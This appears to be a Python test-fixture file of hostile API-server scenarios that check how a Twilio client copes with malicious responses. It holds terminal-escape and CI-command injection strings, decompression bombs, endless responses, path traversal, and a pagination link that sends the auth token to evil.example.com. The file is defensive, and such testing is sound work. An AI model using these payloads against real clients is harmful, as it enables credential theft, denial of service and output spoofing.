"""What an API can do to its client: one scenario for each way, and what the operator is told then."""

from __future__ import annotations

import gzip
from typing import TYPE_CHECKING, NamedTuple

from tests.hostile.api import a_number, a_page
from tests.reliability.ledger import PASSWORD
from tests.seeds import ACCOUNT

if TYPE_CHECKING:
    from collections.abc import Mapping

    from tests.hostile.api import Asked, Scenario

MEGABYTE = 2**20
LINK = "/2010-04-01/Accounts/X/IncomingPhoneNumbers.json?Page="
# A terminal's title and screen, the direction of reading, and commands to CI systems; and how all of it is shown.
ACTING = (
    "\x1b]0;title\x07\x1b[2J \N{RIGHT-TO-LEFT OVERRIDE} \r\n::stop-commands::token\n##[add-mask]a ##vso[task.a] \x00"
)
SHOWN = r"\x1b]0;title\x07\x1b[2J \u202e \r\n::stop-commands::token\n##\x5badd-mask]a ##vso\x5btask.a] \x00"

LISTING = f"listing the numbers of account {ACCOUNT}: "
LOOKING = "+15005550006: looking for it: "
UNUSABLE = f"{LISTING}no usable answer: "
NOT_JSON = f"{UNUSABLE}the answer is not Twilio's JSON "
REFUSED = f"{LISTING}Twilio refused it with "
THROTTLED = f"{LISTING}Twilio is asked too much (429, 20429) and did not process it: run again later"
CODE = " (https://www.twilio.com/docs/errors/20001)"
AWAY = " in the answer; nothing was sent there: check TWILIO_API_BASE_URL, and the proxies between here and Twilio"
TRIES = 13  # of a call whose answer may be better the next time


class Case(NamedTuple):
    """A scenario, the one message on standard error, and how many requests and bytes it costs at most.

    A message that ends in `…` goes on in the words of a library, on the same line. An empty one says that the plan is
    made. `kilobytes` are those of the bodies that the API could send.
    """

    answer: Scenario
    message: str
    requests: int = 1
    kilobytes: int = 2


def say(body: object, status: int = 200, **headers: str) -> Scenario:
    return lambda asked: asked.send(body, status, **headers)


def refuse(message: str, code: int = 20001) -> Scenario:
    return say({"code": code, "message": message}, 400)


def show(**fields: object) -> Scenario:
    """The account has the number, with these fields."""
    return say(a_page(a_number(**fields)))


def write(*parts: bytes) -> Scenario:
    """These bytes, which need be no HTTP, and then the end of the connection."""

    def answer(asked: Asked) -> None:
        asked.handler.close_connection = True
        for part in parts:
            asked.write(part)

    return answer


def lead_back(asked: Asked) -> None:
    """Every page is followed by the same one."""
    asked.send(a_page(following=f"{LINK}1"))


def lead_on(asked: Asked) -> None:
    """Every page is followed by another one."""
    asked.send(a_page(following=f"{LINK}{asked.count}"))


def repeat_credentials(asked: Asked) -> None:
    asked.send({"code": 20003, "message": f"I do not know {asked.handler.headers['Authorization']}"}, 401)


def lead_to(url: str) -> dict[str, object]:
    """A page that is followed by any URL, as in Twilio's newer APIs; the package takes it from every API."""
    return a_page(meta={"key": "incoming_phone_numbers", "next_page_url": url})


def lead_away_with_credentials(asked: Asked) -> None:
    token = asked.handler.headers["Authorization"].removeprefix("Basic ")
    asked.send(lead_to(f"https://evil.example.com/?{token}"))


def pour(asked: Asked) -> None:
    """300 MB, or as much as somebody reads."""
    asked.handler.close_connection = True
    asked.write(b"HTTP/1.1 200 OK\r\nContent-Length: 314572800\r\n\r\n")
    for _ in range(300):
        asked.write(b" " * MEGABYTE)


def promise(asked: Asked) -> None:
    """Say "go on" for ever, and never answer."""
    asked.handler.close_connection = True
    while True:
        asked.write(b"HTTP/1.1 100 Continue\r\n\r\n")
        asked.wait(0.01)


def squeeze(megabytes: int) -> bytes:
    return gzip.compress(b" " * (megabytes * MEGABYTE), 1)


OK = b"HTTP/1.1 200 OK\r\n"
DEEP = "[" * 100_000
TWICE = [a_number(), a_number(sid="PN" + "2" * 32)]

LISTS: Mapping[str, Case] = {
    "it leads back": Case(
        lead_back, f"{LOOKING}no usable answer: the list has no end: a page leads back to one that was read", 3
    ),
    "it leads on": Case(lead_on, f"{LOOKING}no usable answer: the list did not end before the deadline", 5000, 500),
    "it leads to another host": Case(
        say(lead_to("https://evil.example.com/x")),
        f"{LOOKING}expected the next page at the address of the API, found 'https://evil.example.com/x'{AWAY}",
        2,
    ),
    "it leads to another host with the credentials": Case(
        lead_away_with_credentials,
        f"{LOOKING}expected the next page at the address of the API, found "
        f"'https://evil.example.com/?<the credentials>'{AWAY}",
        2,
    ),
    "it leads to a host behind an @": Case(
        say(a_page(following="@evil.example.com/x")),
        f"{LOOKING}no usable answer: the list has no end: a page leads back to one that was read",
        3,
    ),
    "its link is half of a character": Case(
        say('{"incoming_phone_numbers": [], "next_page_uri": "/\\ud800"}'),
        f"{UNUSABLE}next_page_url: expected a text, found half of a character",
    ),
    "its link is an object": Case(say(a_page(following={"a": []})), f"{NOT_JSON}(AttributeError)", TRIES),
    "its numbers are none": Case(say(a_page(None, 5, [])), f"{NOT_JSON}(AttributeError)", TRIES),
    "it has a number twice": Case(
        say(a_page(*TWICE)),
        f"{UNUSABLE}phone_number: expected +15005550006 once, found PN{'1' * 32} and PN{'2' * 32}",
    ),
    "it is not there": Case(say({"incoming_phone_numbers": None}), f"{NOT_JSON}(TypeError)", TRIES),
}
NUMBERS: Mapping[str, Case] = {
    "its name acts": Case(show(friendly_name=ACTING), ""),
    "its name is half of a character": Case(
        show(friendly_name="\ud800"), f"{UNUSABLE}friendly_name: expected a text, found half of a character"
    ),
    "its URL has a password": Case(show(voice_url=f"https://twilio:{PASSWORD}'@example.com/"), ""),
    "its URL has 60,000 colons": Case(show(voice_url="https://" + ":" * 60_000), "", 1, 65),
    "its URL is an object": Case(show(voice_url={"a": 1}), f"{UNUSABLE}voice_url: expected a text, found an object"),
    "its flag is a text": Case(
        show(voice_caller_id_lookup="yes"),
        f"{UNUSABLE}voice_caller_id_lookup: expected true or false, found a text",
    ),
    "its capabilities are texts": Case(
        show(capabilities={"voice": "yes"}), f"{UNUSABLE}capabilities: expected an object of flags, found a text in it"
    ),
    "it is another account's": Case(
        show(account_sid="AC" + "9" * 32), f"{UNUSABLE}account_sid: expected {ACCOUNT}, found AC{'9' * 32}"
    ),
    "it is no number": Case(
        show(number="+1 500 <script>"),
        f"{UNUSABLE}phone_number: expected a number in E.164, as in \"+15005550006\", found '+1 500 <script>'",
    ),
    "its SID leads elsewhere": Case(
        show(sid="../../v1/Evil"), f"{UNUSABLE}sid: expected PN and 32 hex digits, found '../../v1/Evil'"
    ),
}
ERRORS: Mapping[str, Case] = {
    "its message acts": Case(refuse(ACTING), f"{REFUSED}20001: {SHOWN}{CODE}"),
    "its message is half of a character": Case(refuse("a \ud800"), f"{REFUSED}20001: a \\ud800{CODE}"),
    "its message is long": Case(refuse(":" * 60_000), f"{REFUSED}20001: {':' * 500}…{CODE}", 1, 65),
    "its message has a long password": Case(
        refuse(f"https://u:{'p' * 60_000}@h/"), f"{REFUSED}20001: https://***@h/{CODE}", 1, 65
    ),
    "its message has a password": Case(
        refuse(f"no https://twilio:{PASSWORD}@example.com/ here"),
        f"{REFUSED}20001: no https://***@example.com/ here{CODE}",
    ),
    "its message has the credentials": Case(
        repeat_credentials,
        f"{REFUSED}20003: I do not know Basic <the credentials> (https://www.twilio.com/docs/errors/20003): "
        f"TWILIO_AUTH_TOKEN is wrong or expired for account {ACCOUNT}: set the current one",
    ),
    "its message is an object": Case(say({"code": 20001, "message": {"a": 1}}, 400), f"{REFUSED}20001: {CODE}"),
    "its code is none": Case(refuse("no", code=-(10**40)), f"{REFUSED}400: no"),
    "it is deep": Case(say(DEEP, 400), f"{REFUSED}400: ", 1, 100),
    "it is a page of HTML": Case(say("<html>\x1b[2J</html>", 404), f"{REFUSED}404: "),
    "it asks for an hour": Case(say({}, 429, Retry_After="3600"), THROTTLED),
    "it asks for 25 digits of seconds": Case(say({}, 429, Retry_After="9" * 25), THROTTLED),
    "it asks for what acts": Case(say({}, 429, Retry_After="\x1b[2J"), THROTTLED, TRIES),
    "it asks for the year 99999": Case(say({}, 429, Retry_After="Wed, 21 Oct 99999 07:28:00 GMT"), THROTTLED, TRIES),
}
BODIES: Mapping[str, Case] = {
    "it is empty": Case(say(""), f"{NOT_JSON}(JSONDecodeError)", TRIES),
    "it is null": Case(say("null"), f"{NOT_JSON}(TypeError)", TRIES),
    "it is a list": Case(say("[]"), f"{NOT_JSON}(AttributeError)", TRIES),
    "it is an empty object": Case(say({}), f"{NOT_JSON}(TwilioException)", TRIES),
    "it is a number of 10,000 digits": Case(say("9" * 10_000), f"{NOT_JSON}(ValueError)", TRIES, 130),
    "it is deep": Case(say(DEEP), f"{NOT_JSON}(RecursionError)", TRIES, 1400),
    "it is a page of HTML": Case(say("<html>Welcome</html>"), f"{NOT_JSON}(JSONDecodeError)", TRIES),
    "it has 300 MB": Case(pour, f"{UNUSABLE}the answer is larger than 16 MB", 1, 24 * 1024),
    "it has 64 MB in 64 kB": Case(
        say(squeeze(64), 200, Content_Encoding="gzip"), f"{UNUSABLE}the answer is larger than 16 MB", 1, 300
    ),
    "it is not in its encoding": Case(
        say(b"\x00\xff", 200, Content_Encoding="gzip"), f"{UNUSABLE}ContentDecodingError: …", TRIES
    ),
    "it is in a thousand encodings": Case(
        say(b"", 200, Content_Encoding=", ".join(["gzip"] * 1000)), f"{UNUSABLE}ContentDecodingError: …", TRIES
    ),
}
CONNECTIONS: Mapping[str, Case] = {
    "it redirects": Case(say("", 302, Location="https://evil.example.com/"), f"{NOT_JSON}(ValueError)", TRIES),
    "its status line acts": Case(write(ACTING.encode()), f"{UNUSABLE}ConnectionError: …", TRIES),
    "its status has 1,000 digits": Case(
        write(b"HTTP/1.1 " + b"9" * 1000 + b" OK\r\n\r\n"), f"{UNUSABLE}ConnectionError: …", TRIES, 14
    ),
    "a header has a megabyte": Case(
        write(OK + b"X: ", b"a" * MEGABYTE, b"\r\n\r\n"), f"{UNUSABLE}ConnectionError: …", TRIES, TRIES * 1025
    ),
    "it has ten thousand headers": Case(
        write(OK, b"X: a\r\n" * 10_000, b"\r\n"), f"{UNUSABLE}ConnectionError: …", TRIES, 800
    ),
    "its length is negative": Case(write(OK + b"Content-Length: -1\r\n\r\n{}"), f"{UNUSABLE}…", TRIES),
    "it has two lengths": Case(
        write(OK + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}"), f"{UNUSABLE}InvalidHeader: …", TRIES
    ),
    "a chunk acts": Case(
        write(OK + b"Transfer-Encoding: chunked\r\n\r\n\x1b[2J\r\n"), f"{UNUSABLE}ChunkedEncodingError: …", TRIES
    ),
    "it ends in the middle": Case(
        write(OK + b"Content-Length: 1000\r\n\r\n{"), f"{UNUSABLE}ChunkedEncodingError: …", TRIES
    ),
    "it ends at once": Case(write(), f"{UNUSABLE}ConnectionError: …", TRIES),
    "it promises an answer for ever": Case(
        promise, f"{UNUSABLE}the answer did not come whole in its time (ReadTimeout)", 6, 20
    ),
}
CASES: Mapping[str, Case] = {
    f"{subject}: {name}": case
    for subject, cases in {
        "a list": LISTS,
        "a number": NUMBERS,
        "an error": ERRORS,
        "a body": BODIES,
        "a connection": CONNECTIONS,
    }.items()
    for name, case in cases.items()
}
